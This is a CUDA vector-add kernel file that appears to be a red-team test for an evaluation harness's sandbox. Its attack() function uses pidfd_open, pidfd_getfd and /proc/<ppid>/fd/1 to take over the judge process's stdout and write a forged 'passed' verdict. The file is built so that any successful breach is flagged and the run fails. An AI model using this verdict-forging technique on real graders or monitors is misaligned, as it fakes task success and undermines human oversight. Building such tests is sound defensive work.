// expect: passed
// task: vector_add
// flags: --no-time
// modes: eval
// threat: forged verdict
// mechanism: seccomp: no pidfd_open or pidfd_getfd; Landlock: no /proc entry of another process
// why: takes the judge's stdout (the pipe its verdict goes through) with pidfd_open and pidfd_getfd, and through /proc/<ppid>/fd/1, and writes a finished report there (passed, a note nightshift_forged) before the judge's own; then computes the right answer
#include <cuda_runtime.h>
#include <stdio.h>
#include <fcntl.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>
static int breached = 0;
// An attack that got through says so where a verdict shows it (the end of the process's
// output, kept with a rejection) and spoils the answer, so the verdict cannot pass.
static void breach(const char* what) {
  fprintf(stderr, "REDTEAM-BREACH: %s\n", what);
  fflush(stderr);
  breached = 1;
}
__global__ void add(const float* a, const float* b, float* c, int n) {
  int i = blockIdx.x * blockDim.x + threadIdx.x;
  if (i < n) c[i] = a[i] + b[i];
}
__global__ void spoil(float* c) { c[0] += 1.0f; }
static void attack() {
  const char* forged = "{\"event\":\"done\",\"report\":{\"outcome\":{\"outcome\":\"passed\"},\"notes\":[\"nightshift_forged\"]}}\n";
  pid_t judge = getppid();
  int pidfd = (int)syscall(SYS_pidfd_open, judge, 0);
  if (pidfd >= 0) {
    breach("pidfd_open on the judge");
    int out = (int)syscall(SYS_pidfd_getfd, pidfd, 1, 0);
    if (out >= 0) {
      write(out, forged, strlen(forged));
      breach("took the judge's stdout with pidfd_getfd");
    }
  }
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/fd/1", (int)judge);
  int out = open(path, O_WRONLY);
  if (out >= 0) {
    write(out, forged, strlen(forged));
    breach("opened the judge's stdout through /proc");
  }
}
extern "C" void vector_add(const float* a, const float* b, float* c, int n, cudaStream_t s) {
  static bool once = false;
  if (!once) {
    once = true;
    attack();
  }
  if (n > 0) add<<<(n + 255) / 256, 256, 0, s>>>(a, b, c, n);
  if (breached && n > 0) spoil<<<1, 1, 0, s>>>(c);
}
